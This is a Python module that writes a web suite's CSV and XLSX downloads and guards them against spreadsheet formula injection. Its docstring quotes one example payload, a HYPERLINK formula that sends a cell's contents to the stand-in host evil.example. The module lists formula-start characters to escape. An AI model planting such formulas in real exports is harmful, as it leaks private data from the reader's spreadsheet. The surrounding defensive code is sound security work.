"""Tables for download: the one writer of every CSV and XLSX export of the
suite's plugins.

An export is opened in a spreadsheet by whoever downloaded it, often the
secretariat, whose exports hold other municipalities' private candidates.
A text cell the suite writes is therefore always data, never a formula: a
dataset titled ``=HYPERLINK("https://evil.example/?x="&C3,"Open")`` must
not become a link that sends the cell C3 of the reader's sheet away
("CSV injection", OWASP). The rules, applied to every cell, the header
row's included:

- CSV: a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a
  carriage return gets a leading apostrophe, as OWASP recommends; the
  spreadsheet shows it as text. Numbers are written as numbers (a
  negative number stays a number: only text is prefixed).
- XLSX: a text cell is stored as a string cell, whatever it starts with
  (openpyxl would otherwise store a string starting with ``=`` as a
  formula); numbers stay numbers. Characters that XML cannot carry
  (control characters other than tab, newline and carriage return) are
  left out rather than failing the whole download.

Everything about the files' form is decided here, in one place, so that
every export opens the same way in a spreadsheet:

- CSV: UTF-8 with a byte-order mark (Excel reads a file without one in
  the machine's legacy code page, and shows "Ã¦" for "æ").
- XLSX: a bold header row, frozen with the sheet's first column (or only
  the header row, for a sheet of explanations), an autofilter over the
  table and column widths fitted to their longest cell.

Plain Python except the two response builders, which need Flask.
"""
from __future__ import annotations

import csv
import io
import numbers
import re
from dataclasses import dataclass
from datetime import date, datetime, time
from typing import Any, Iterable, Sequence

__all__ = [
    "BOM",
    "FORMULA_STARTS",
    "Sheet",
    "column_widths",
    "csv_bytes",
    "csv_cell",
    "csv_response",
    "csv_text",
    "xlsx_bytes",
    "xlsx_response",
    "xlsx_value",
]

#: The first characters that make a spreadsheet read a text cell as a
#: formula (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

#: Written first in every CSV file: tells Excel the file is UTF-8.
BOM = "\ufeff"

CSV_MIMETYPE = "text/csv; charset=utf-8"
XLSX_MIMETYPE = ("application/vnd.openxmlformats-officedocument."
                 "spreadsheetml.sheet")

# What an XLSX (XML 1.0) cell cannot hold: openpyxl refuses these with an
# exception, which would turn one odd title into a failed download.
_NOT_IN_XML = re.compile(r"[\000-\010\013\014\016-\037]")

Row = Sequence[Any]


#: Column widths (in characters) a fitted column stays between.
MIN_WIDTH, MAX_WIDTH = 6, 60


@dataclass(frozen=True)
class Sheet:
    """One sheet of a workbook: its title, header row and rows, and the
    cell above and left of which the panes freeze ("B2": the header row
    and the first column; "A2": the header row only)."""
    title: str
    header: Row
    rows: Iterable[Row]
    freeze: str = "B2"


def _is_number(value: Any) -> bool:
    return isinstance(value, numbers.Number) and not isinstance(value, bool)


# -- CSV ----------------------------------------------------------------------

def csv_cell(value: Any) -> Any:
    """A cell as the CSV file carries it: numbers as they are, nothing as
    an empty cell, text prefixed with ``'`` when it starts like a
    formula."""
    if value is None:
        return ""
    if _is_number(value):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def csv_text(header: Row, rows: Iterable[Row]) -> str:
    """The CSV document of a header and rows."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([csv_cell(v) for v in header])
    for row in rows:
        writer.writerow([csv_cell(v) for v in row])
    return out.getvalue()


def csv_bytes(header: Row, rows: Iterable[Row]) -> bytes:
    """The CSV file as downloaded: UTF-8 after a byte-order mark."""
    return (BOM + csv_text(header, rows)).encode("utf-8")


# -- XLSX ---------------------------------------------------------------------

def xlsx_value(value: Any) -> Any:
    """A cell's value as the workbook stores it: numbers, booleans and
    dates as they are, anything else as text."""
    if value is None or _is_number(value) or isinstance(
            value, (bool, date, datetime, time)):
        return value
    return _NOT_IN_XML.sub("", str(value))


def _append(sheet, row: Row) -> None:
    sheet.append([xlsx_value(v) for v in row])
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            # openpyxl guessed "f" (formula) for text starting with "="
            cell.data_type = "s"


def _shown_length(value: Any) -> int:
    if value is None:
        return 0
    if isinstance(value, float):
        return len(f"{value:.1f}")
    return max(len(line) for line in str(value).split("\n"))


def column_widths(rows: Iterable[Row]) -> list[int]:
    """Each column's width in characters: its longest cell (the header
    included) plus a margin, between ``MIN_WIDTH`` and ``MAX_WIDTH``."""
    widths: list[int] = []
    for row in rows:
        for i, value in enumerate(row):
            if i == len(widths):
                widths.append(MIN_WIDTH)
            widths[i] = max(widths[i], min(MAX_WIDTH,
                                           _shown_length(value) + 2))
    return widths


def _write_sheet(book, s: Sheet) -> None:
    from openpyxl.styles import Alignment, Font
    from openpyxl.utils import get_column_letter
    sheet = book.create_sheet(s.title[:31])
    rows = [list(s.header)] + [list(r) for r in s.rows]
    for row in rows:
        _append(sheet, row)
    for cell in sheet[1]:
        cell.font = Font(bold=True)
    for i, width in enumerate(column_widths(rows), start=1):
        sheet.column_dimensions[get_column_letter(i)].width = width
        if width == MAX_WIDTH:  # long text wraps inside its column
            for cell in sheet[get_column_letter(i)][1:]:
                cell.alignment = Alignment(wrap_text=True, vertical="top")
    sheet.freeze_panes = s.freeze
    if s.header:
        sheet.auto_filter.ref = "A1:{}{}".format(
            get_column_letter(len(s.header)), max(len(rows), 2))


def xlsx_bytes(sheets: Iterable[Sheet]) -> bytes:
    """A workbook with one sheet per ``Sheet``: a bold frozen header row,
    fitted column widths, an autofilter."""
    from openpyxl import Workbook
    book = Workbook()
    book.remove(book.active)
    for s in sheets:
        _write_sheet(book, s)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


# -- HTTP responses -----------------------------------------------------------

def _attachment(body, mimetype: str, filename: str):
    from flask import Response
    return Response(body, mimetype=mimetype, headers={
        "Content-Disposition": f'attachment; filename="{filename}"'})


def csv_response(name: str, header: Row, rows: Iterable[Row]):
    """A download of ``name``.csv (UTF-8 with a byte-order mark)."""
    return _attachment(csv_bytes(header, rows), CSV_MIMETYPE,
                       f"{name}.csv")


def xlsx_response(name: str, sheets: Iterable[Sheet]):
    """A download of ``name``.xlsx."""
    return _attachment(xlsx_bytes(sheets), XLSX_MIMETYPE, f"{name}.xlsx")
